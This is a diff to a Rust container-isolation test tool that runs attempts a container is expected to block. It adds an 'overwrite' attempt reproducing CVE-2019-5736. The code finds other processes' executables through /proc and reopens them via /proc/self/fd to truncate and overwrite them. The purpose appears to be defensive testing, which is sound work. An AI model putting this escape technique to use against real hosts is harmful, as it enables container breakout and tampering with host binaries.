@@ -1,13 +1,15 @@
 //! `try WHAT WORD…`: attempts, most of which a container must not let through. Each prints `ok`
 //! or the name of an errno.
 
+use std::collections::BTreeMap;
 use std::ffi::CString;
 use std::fs::{self, OpenOptions};
-use std::io::{self, Read, Write};
+use std::io::{self, ErrorKind, Read, Write};
 use std::net::TcpListener;
 use std::os::fd::AsRawFd;
 use std::os::linux::net::SocketAddrExt;
 use std::os::unix::net::{SocketAddr, UnixStream};
+use std::time::{Duration, Instant};
 
 use syscalls::Sysno;
 
@@ -64,6 +66,7 @@ fn attempt(words: &[&str]) -> io::Result<()> {
         "bind" => TcpListener::bind(("127.0.0.1", number(words, 1)?)).map(drop),
         "descriptor" => attack::take_descriptor(number(words, 1)?, number(words, 2)?).map(drop),
         "forge" => forge(number(words, 1)?),
+        "overwrite" => overwrite(word(words, 1)?, number(words, 2)?),
         "key" => attack::request_key(&path(1)?),
         "users-key" => attack::find_users_key(&path(1)?),
         "netlink" => attack::ask_netlink(number(words, 1)?, number(words, 2)?),
@@ -116,6 +119,35 @@ fn forge(pid: u32) -> io::Result<()> {
     KINDS
         .into_iter()
         .try_for_each(|kind| channel.write_all(&[[kind, 0, 0, 0], pid.to_le_bytes()].concat()))
+}
+
+/// CVE-2019-5736: takes hold of the program of every other process that has one with this in its path,
+/// and writes to it as soon as nobody runs it, for so many milliseconds at most.
+fn overwrite(name: &str, milliseconds: u64) -> io::Result<()> {
+    let end = Instant::now() + Duration::from_millis(milliseconds);
+    let own = fs::read_link("/proc/self/exe")?;
+    let mut taken = BTreeMap::new();
+    let mut said = io::Error::from_raw_os_error(libc::ESRCH);
+    while Instant::now() < end {
+        for entry in fs::read_dir("/proc")? {
+            let program = entry?.path().join("exe");
+            match fs::read_link(&program).and_then(|path| Ok((fs::File::open(&program)?, path))) {
+                Ok((file, path)) if path != own && path.to_string_lossy().contains(name) => {
+                    taken.entry(path).or_insert(file);
+                }
+                Err(error) if error.kind() == ErrorKind::PermissionDenied => said = error,
+                _ => {}
+            }
+        }
+        for file in taken.values() {
+            let by_number = format!("/proc/self/fd/{}", file.as_raw_fd());
+            match OpenOptions::new().write(true).truncate(true).open(by_number) {
+                Ok(mut file) => return file.write_all(b"overwritten"),
+                Err(error) => said = error,
+            }
+        }
+    }
+    Err(said)
 }
 
 /// One below the cgroup that we are in, by a file system of our own.
